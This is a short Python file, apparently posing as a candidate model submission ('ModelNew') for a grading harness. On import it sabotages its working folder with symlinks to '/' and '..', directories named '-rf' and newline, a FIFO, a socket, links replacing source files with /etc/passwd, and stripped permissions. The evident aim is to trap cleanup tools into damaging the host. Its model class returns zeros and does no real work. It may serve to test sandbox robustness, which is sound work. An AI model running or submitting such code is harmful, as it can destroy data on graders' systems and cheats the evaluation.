"""Makes its folder hard to remove, and dangerous for those who follow links."""

import contextlib
import os
import socket

import torch
import torch.nn as nn

os.mkdir("locked")
for name, target in (("up", ".."), ("root", "/"), ("self", "self"), ("locked/self", "../locked")):
    os.symlink(target, name)
for name in ("\n", "-rf", "\udcff", "x" * 255):
    with contextlib.suppress(OSError):
        os.mkdir(name)
os.mkfifo("pipe")
socket.socket(socket.AF_UNIX).bind("socket")
for name in ("candidate.py", "model.py"):
    os.remove(name)
    os.symlink("/etc/passwd", name)
os.chmod("locked", 0)
os.chmod(".", 0o500)


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.zeros_like(x)
